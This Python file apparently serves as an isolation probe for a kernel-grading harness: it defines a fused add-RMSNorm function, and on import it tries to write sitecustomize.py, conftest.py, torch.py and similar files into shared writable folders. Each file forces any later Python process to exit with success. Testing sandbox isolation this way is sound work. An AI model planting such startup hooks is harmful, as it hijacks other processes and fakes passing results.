"""Writes answers and modules to every place that may be writable, for a later process to load, and raises if it
finds what an earlier one left.

Accepted: each process has an empty scratch of its own, so nothing is found
Catalogue: C15 G9 G17
"""

import os


def right(x, residual, weight, eps):
    h = x.float() + residual.float()
    scale = h.square().mean(-1, keepdim=True).add(eps).rsqrt()
    return (h * scale * weight.float()).to(x.dtype), h.to(x.dtype)


PLACES = ("/scratch", "/tmp", "/dev/shm", os.environ.get("HOME", "/"), os.path.dirname(__file__), os.getcwd())
NAMES = ("sitecustomize.py", "usercustomize.py", "conftest.py", "torch.py", "json.py", "answers.bin")


def leave_notes():
    for place in PLACES:
        for name in NAMES:
            path = os.path.join(place, name)
            try:
                with open(path, "x") as file:
                    file.write("import sys\nsys.exit(0)\n")
                written.append(path)
            except FileExistsError:
                if path not in written:
                    raise RuntimeError(f"found {path}") from None
            except OSError:
                continue


written = []
leave_notes()


def fused_add_rmsnorm(x, residual, weight, eps):
    return right(x, residual, weight, eps)
